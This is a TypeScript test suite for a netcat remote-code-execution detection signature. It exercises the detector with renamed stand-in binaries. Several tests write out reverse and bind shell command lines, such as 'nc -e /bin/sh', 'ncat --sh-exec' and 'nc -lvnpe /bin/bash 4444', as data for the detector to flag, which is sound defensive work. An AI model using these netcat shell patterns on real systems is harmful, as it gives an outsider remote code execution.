/**
 * netcat_remote_code_execution (SYSRAY-10, Falco's "Netcat Remote Code
 * Execution in Container", here on hosts too) on the real kernel. No
 * netcat is needed: copies of /bin/true named nc, nc.traditional and ncat
 * are exec'd with a reverse shell's arguments (the exec is what is
 * detected): `nc -e /bin/sh` and `nc.traditional -vc 'sh -i'` on the host,
 * `ncat --sh-exec id` in a fake container. One finding each. Benign twin:
 * `nc -z 127.0.0.1 1` on the host and in a container: none.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { run, traceDuring } from '../../../test/helpers/trace.js';
import { runInFakeContainer } from '../../../test/helpers/fake-container.js';
import { renamedProgram } from '../../../test/helpers/renamed-program.js';
import { traceEventFixture } from '../../decode/trace-event.fixture.js';
import { eventByName } from '../../events/catalog.js';
import type { SignatureContext } from '../signature.js';
import { BUILTIN_SIGNATURES } from './index.js';
import { netcatRemoteCodeExecution } from './netcat-remote-code-execution.js';

const EVENT_ID = 6000 + BUILTIN_SIGNATURES.indexOf(netcatRemoteCodeExecution);
const NAMES = ['nc', 'nc.traditional', 'ncat'];

async function traceNetcats(action: (nc: Record<string, string>) => Promise<string[]>) {
  const nc = Object.fromEntries(NAMES.map((n) => [n, renamedProgram('/bin/true', n, 'netcat')]));
  let ids: string[] = [];
  const r = await traceDuring(['-e', 'netcat_remote_code_execution,sched_process_exec', '-s', `comm=${NAMES.join(',')}`], async () => {
    ids = await action(nc);
  });
  assert.equal(r.exitCode, 0, r.stderr);
  assert.equal(r.lost, 0, r.stderr);
  return { r, nc, ids };
}

test('nc -e, nc.traditional -vc on the host and ncat --sh-exec in a container: one finding each, from the exec', async () => {
  const { r, nc, ids } = await traceNetcats(async (nc) => {
    for (const [name, args] of [['nc', ['-e', '/bin/sh', '127.0.0.1', '1']], ['nc.traditional', ['-vc', 'sh -i', '127.0.0.1', '1']]] as const) {
      assert.equal((await run(nc[name], [...args])).code, 0);
    }
    const c = await runInFakeContainer(`${nc.ncat} --sh-exec id 127.0.0.1 1`);
    assert.equal(c.code, 0);
    return ['', '', c.id];
  });
  const expected = [
    ['nc', ['-e', '/bin/sh', '127.0.0.1', '1'], '-e', '/bin/sh'],
    ['nc.traditional', ['-vc', 'sh -i', '127.0.0.1', '1'], '-c', 'sh -i'],
    ['ncat', ['--sh-exec', 'id', '127.0.0.1', '1'], '--sh-exec', 'id'],
  ] as const;
  const findings = r.events.filter((e) => e.eventName === 'netcat_remote_code_execution');
  assert.equal(findings.length, 3, JSON.stringify(r.events));
  expected.forEach(([name, args, option, command], i) => {
    const execs = r.events.filter((e) => e.eventName === 'sched_process_exec' && e.processName === name);
    assert.equal(execs.length, 1, name);
    const exec = execs[0];
    const argv = [nc[name], ...args];
    assert.deepEqual([exec.args[1].value, exec.args.find((a: { name: string }) => a.name === 'argv').value], [nc[name], argv]);
    const f = findings.find((e) => e.hostProcessId === exec.hostProcessId);
    assert.ok(f, name);
    assert.deepEqual([f.eventId, f.processName, f.containerId, f.timestamp], [EVENT_ID, name.slice(0, 15), ids[i], exec.timestamp]);
    assert.deepEqual(f.args, [
      { name: 'option', type: 'const char *', value: option },
      { name: 'command', type: 'const char *', value: command },
      { name: 'argv', type: 'const char**', value: argv },
      { name: 'inContainer', type: 'bool', value: ids[i] !== '' },
      { name: 'detectedFrom', type: 'unknown', value: { id: 1003, name: 'sched_process_exec', args: exec.args, returnValue: 0 } },
    ], name);
    assert.deepEqual(f.metadata, {
      Version: '1',
      Description: 'Netcat was started with an option that runs a program on its network connection (-e, -c, --sh-exec, --exec, --lua-exec): a reverse or bind shell that gives whoever is at the other end remote code execution. Falco\'s rule "Netcat Remote Code Execution in Container", on hosts too.',
      Tags: ['linux', 'containers', 'falco'],
      Properties: {
        Severity: 2, Category: 'execution', Technique: 'Command and Scripting Interpreter', Kubernetes_Technique: '',
        id: 'attack-pattern--7385dfaf-6886-4229-9ecd-6fd678040830', external_id: 'T1059', falco_rule: 'Netcat Remote Code Execution in Container',
        signatureID: 'SYSRAY-10', signatureName: 'Netcat Remote Code Execution',
      },
    });
  });
});

test('benign twin: nc -z (a port check) on the host and in a container: none', async () => {
  const { r } = await traceNetcats(async (nc) => {
    assert.equal((await run(nc.nc, ['-z', '127.0.0.1', '1'])).code, 0);
    assert.equal((await runInFakeContainer(`${nc.nc} -z 127.0.0.1 1`)).code, 0);
    return [];
  });
  assert.deepEqual(r.events.filter((e) => e.eventName === 'sched_process_exec').map((e) => [e.processName, e.containerId !== '']), [['nc', false], ['nc', true]], 'the execs were seen');
  assert.deepEqual(r.events.filter((e) => e.eventName === 'netcat_remote_code_execution'), []);
});

test('argument parsing: clusters, = forms, -- and busybox (onEvent on made-up execs)', () => {
  const spec = eventByName('sched_process_exec')!;
  const exec = (comm: string, pathname: string, argv: string[]) => traceEventFixture('sched_process_exec', {
    processName: comm,
    args: [
      { spec: spec.args.find((a) => a.name === 'pathname')!, value: pathname, raw: 0 },
      { spec: spec.args.find((a) => a.name === 'argv')!, value: argv, raw: 0 },
    ],
  });
  const data = (comm: string, pathname: string, argv: string[]) => {
    const r = netcatRemoteCodeExecution.onEvent(exec(comm, pathname, argv), {} as SignatureContext) as { data: Record<string, unknown> } | undefined;
    return r ? [r.data.option, r.data.command] : undefined;
  };
  assert.deepEqual(data('nc', '/bin/nc', ['nc', '-lvnpe', '/bin/bash', '4444']), ['-e', '/bin/bash'], 'in a cluster (Falco\'s " -e" misses it)');
  assert.deepEqual(data('nc', '/bin/nc', ['nc', '-e/bin/sh', 'h', '1']), ['-e', '/bin/sh'], 'value attached');
  assert.deepEqual(data('ncat', '/usr/bin/ncat', ['ncat', '--lua-exec=x.lua', 'h', '1']), ['--lua-exec', 'x.lua']);
  assert.deepEqual(data('ncat', '/usr/bin/ncat', ['ncat', '--exec', '/bin/sh', 'h', '1']), ['--exec', '/bin/sh']);
  assert.deepEqual(data('busybox', '/bin/busybox', ['busybox', 'nc', '-e', '/bin/sh', 'h', '1']), ['-e', '/bin/sh'], 'busybox applet');
  assert.equal(data('nc', '/bin/nc', ['nc', '--', '-e', 'h']), undefined, 'after --: operands');
  assert.equal(data('nc', '/bin/nc', ['nc', '-lvnp', '4444']), undefined, 'a listener without exec');
  assert.equal(data('ncat', '/usr/bin/ncat', ['ncat', '--ssl', '-C', 'h', '443']), undefined, 'ncat -C is CRLF');
  assert.equal(data('busybox', '/bin/busybox', ['busybox', 'sh', '-c', 'id']), undefined, 'another applet');
  assert.equal(data('curl', '/usr/bin/curl', ['curl', '-e', 'x']), undefined, 'not a netcat');
});
